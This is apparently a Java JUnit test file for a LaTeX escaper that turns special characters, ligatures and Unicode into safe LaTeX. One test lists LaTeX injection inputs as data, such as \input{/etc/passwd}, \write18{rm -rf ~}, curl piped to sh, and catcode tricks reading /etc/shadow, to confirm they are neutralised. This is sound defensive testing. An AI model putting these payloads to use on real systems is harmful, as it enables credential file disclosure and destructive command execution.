package org.assay.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.LinkedHashSet;
import java.util.Random;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

/**
 * LaTeX text escaping. The commands are the LaTeX kernel's text-mode names for the special characters
 * (LaTeX2e font encodings guide, {@code encguide}, and "The Not So Short Introduction to LaTeX",
 * section on special characters; from memory). That pdflatex prints each of them as the character is
 * checked by {@code LatexTextCompileTest}.
 */
class LatexTextTest {
    /** The control sequences escaping ASCII may produce: any other one in the output came from the input. */
    private static final Set<String> ASCII_COMMANDS = Set.of("textbackslash", "{", "}", "$", "&", "#", "%", "_",
            "textasciicircum", "textasciitilde", "textless", "textgreater", "textbar", "textasciigrave");
    private static final Pattern CONTROL_SEQUENCE = Pattern.compile("\\\\([A-Za-z]+|.)");

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = ' ', quoteCharacter = '"', value = {
            "\\ \\textbackslash{}",
            "{ \\{",
            "} \\}",
            "$ \\$",
            "& \\&",
            "# \\#",
            "% \\%",
            "_ \\_",
            "^ \\textasciicircum{}",
            "~ \\textasciitilde{}"})
    void eachOfTheTenSpecialsBecomesItsTextCommand(String special, String command) {
        assertThat(LatexText.of(special)).isEqualTo(command);
        assertThat(LatexText.of("a" + special + "b")).isEqualTo("a" + command + "b");
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "\\input{/etc/passwd}",
            "\\write18{rm -rf ~}",
            "\\immediate\\write18{curl x | sh}",
            "^^5cinput^^7b/etc/passwd^^7d",       // ^^5c is TeX's input notation for a backslash
            "^^5c^^5cinput",
            "\\catcode`\\^^M=13 \\def^^M{\\input{/etc/shadow}}",
            "\\catcode`\\@=0 @input{/etc/passwd}",
            "\\csname input\\endcsname{x}",
            "$\\alpha$ & #1 % rest of line",
            "\\\\[2pt] \\\\* \\item[x] \\end{tabular}",
            "}\\end{document}{"})
    void aLabelTryingToRunACommandEndsUpAsText(String hostile) {
        String out = LatexText.of(hostile);
        // no control sequence the input did not ask for as a character
        Matcher m = CONTROL_SEQUENCE.matcher(out);
        while (m.find()) assertThat(ASCII_COMMANDS).as(out).contains(m.group(1));
        // no ^^ notation, no unescaped special left
        assertThat(out).doesNotContain("^");
        assertThat(stripEscapes(out)).doesNotContainPattern("[\\\\$&#%_~^]");
        assertThat(bracesBalanced(out)).as(out).isTrue();
    }

    @Test
    void randomStringsOfSpecialsNeverLeaveAnActiveCharacterOrAnUnbalancedBrace() {
        String alphabet = "\\{}$&#%_^~[]*-',`<>|\"@!?= \n\tabcxyz\u00e9\u2192\u4e2d";
        Random random = new Random(20260101);   // fixed seed: the same strings every run
        for (int i = 0; i < 5000; i++) {
            StringBuilder sb = new StringBuilder();
            int length = 1 + random.nextInt(12);
            for (int j = 0; j < length; j++) sb.append(alphabet.charAt(random.nextInt(alphabet.length())));
            String out = LatexText.of(sb.toString());
            assertThat(bracesBalanced(out)).as(sb.toString()).isTrue();
            assertThat(stripEscapes(out)).as(sb.toString()).doesNotContainPattern("[\\\\$&#%_~^\n\t]");
            Set<String> commands = new LinkedHashSet<>();
            Matcher m = CONTROL_SEQUENCE.matcher(out);
            while (m.find()) commands.add(m.group(1));
            commands.removeAll(ASCII_COMMANDS);
            assertThat(commands).as(sb.toString()).isSubsetOf("ensuremath", "rightarrow");
        }
    }

    @Test
    void bracketsAreBracedSoNoValueIsReadAsAnOptionalArgument() {
        // "\\ [x]" and "\item [x]" would take [x] as an optional argument (LaTeX skips the space)
        assertThat(LatexText.of("[2pt]")).isEqualTo("{[}2pt{]}");
        assertThat(LatexText.of("*ours")).isEqualTo("{*}ours");   // "\\ *" would be \\*
        assertThat(LatexText.of("ours*")).isEqualTo("ours*");
    }

    @Test
    void ligaturesThatWouldChangeTheTextAreBroken() {
        // T1 ligatures (encguide): -- en dash, --- em dash, '' and ,, double quotes; ` is a quote mark
        assertThat(LatexText.of("a--b")).isEqualTo("a-{}-b");
        assertThat(LatexText.of("a---b")).isEqualTo("a-{}-{}-b");
        assertThat(LatexText.of("''x''")).isEqualTo("'{}'x'{}'");
        assertThat(LatexText.of(",,x")).isEqualTo(",{},x");
        assertThat(LatexText.of("`x`")).isEqualTo("\\textasciigrave{}x\\textasciigrave{}");
        assertThat(LatexText.of("a-b, c'd")).isEqualTo("a-b, c'd");
        // < > | are other glyphs in the OT1 encoding (encguide, OT1 table)
        assertThat(LatexText.of("a<b>c|d")).isEqualTo("a\\textless{}b\\textgreater{}c\\textbar{}d");
    }

    @Test
    void lineBreaksAndTabsBecomeSpacesSoNoParagraphEndsACell() {
        assertThat(LatexText.of("a\n\nb\r\nc\td")).isEqualTo("a  b  c d");
    }

    @Test
    void symbolsBecomeLatexCommands() {
        // command names: LaTeX kernel and "The Comprehensive LaTeX Symbol List" (from memory)
        assertThat(LatexText.of("Photo→Caption")).isEqualTo("Photo\\ensuremath{\\rightarrow}Caption");
        assertThat(LatexText.of("≠ ≤ ≥ ± × −")).isEqualTo("\\ensuremath{\\neq} \\ensuremath{\\leq} \\ensuremath{\\geq} "
                + "\\ensuremath{\\pm} \\ensuremath{\\times} \\ensuremath{-}");
        assertThat(LatexText.of("1–2—3")).isEqualTo("1\\textendash{}2\\textemdash{}3");
        assertThat(LatexText.of("‘a’ “b”…")).isEqualTo("\\textquoteleft{}a\\textquoteright{} "
                + "\\textquotedblleft{}b\\textquotedblright{}\\textellipsis{}");
        assertThat(LatexText.of("5µm 20° §3")).isEqualTo("5\\ensuremath{\\mu}m 20\\textdegree{} \\S{}3");
    }

    @Test
    void greekLettersBecomeMathCommandsWithTexNamesForTheVariants() {
        assertThat(LatexText.of("α")).isEqualTo("\\ensuremath{\\alpha}");
        assertThat(LatexText.of("ω")).isEqualTo("\\ensuremath{\\omega}");
        assertThat(LatexText.of("Σ")).isEqualTo("\\ensuremath{\\Sigma}");
        assertThat(LatexText.of("Α")).isEqualTo("\\ensuremath{\\mathrm{A}}");   // Greek capital alpha
        // Unicode's ε (U+03B5) and φ (U+03C6) are the shapes TeX calls \varepsilon and \varphi;
        // ϵ (U+03F5) and ϕ (U+03D5) are \epsilon and \phi (unicode-math's table, from memory)
        assertThat(LatexText.of("εϵφϕ")).isEqualTo("\\ensuremath{\\varepsilon}\\ensuremath{\\epsilon}"
                + "\\ensuremath{\\varphi}\\ensuremath{\\phi}");
        assertThat(LatexText.of("ς")).isEqualTo("\\ensuremath{\\varsigma}");
        // U+03A2 is unassigned: a stand-in, not a letter
        assertThat(LatexText.of("\u03a2")).isEqualTo("{[}U+03A2{]}");
    }

    @Test
    void latinLettersAreLeftToInputencAndDecomposedOnesAreComposedFirst() {
        assertThat(LatexText.of("Café Ærø Łódź œuvre ß")).isEqualTo("Café Ærø Łódź œuvre ß");
        assertThat(LatexText.of("Cafe\u0301")).isEqualTo("Café");   // e + combining acute, NFC
    }

    @Test
    void charactersPdflatexCannotPrintGetAVisibleStandIn() {
        assertThat(LatexText.of("模型中")).isEqualTo("{[}U+6A21{]}{[}U+578B{]}{[}U+4E2D{]}");
        assertThat(LatexText.of("a\uD83D\uDE00b")).isEqualTo("a{[}U+1F600{]}b");   // one code point, one stand-in
        assertThat(LatexText.of("x\uD800y")).isEqualTo("x{[}U+D800{]}y");          // a lone surrogate
        assertThat(LatexText.of("bell\u0007")).isEqualTo("bell{[}U+0007{]}");
        assertThat(LatexText.of("\u0000")).isEqualTo("{[}U+0000{]}");
        assertThat(LatexText.of("\u0085")).isEqualTo("{[}U+0085{]}");             // C1 control
        // Latin Extended-A letters LaTeX's utf8 has no T1 definition for (TeX Live 2022: "Unicode character
        // ... not set up for use with LaTeX")
        assertThat(LatexText.of("ħŀſ")).isEqualTo("{[}U+0127{]}{[}U+0140{]}{[}U+017F{]}");
        // a combining mark with no precomposed form stays visible too
        assertThat(LatexText.of("q\u0301")).isEqualTo("q{[}U+0301{]}");
    }

    @Test
    void escapeLatexUsesIt() {
        assertThat(Escape.latex("R@1 → 52.8% {x}")).isEqualTo(LatexText.of("R@1 → 52.8% {x}"));
    }

    /** The text with every escape the escaper writes removed: what is left must be plain characters. */
    private static String stripEscapes(String out) {
        return out.replaceAll("\\\\[A-Za-z]+\\{\\}", "").replaceAll("\\\\ensuremath\\{\\\\[A-Za-z]+\\}", "")
                .replaceAll("\\\\[{}$&#%_]", "");
    }

    private static boolean bracesBalanced(String out) {
        int depth = 0;
        for (int i = 0; i < out.length(); i++) {
            char c = out.charAt(i);
            if (c == '\\') { i++; continue; }   // \{ and \} are characters, not groups
            if (c == '{') depth++;
            if (c == '}' && --depth < 0) return false;
        }
        return depth == 0;
    }
}
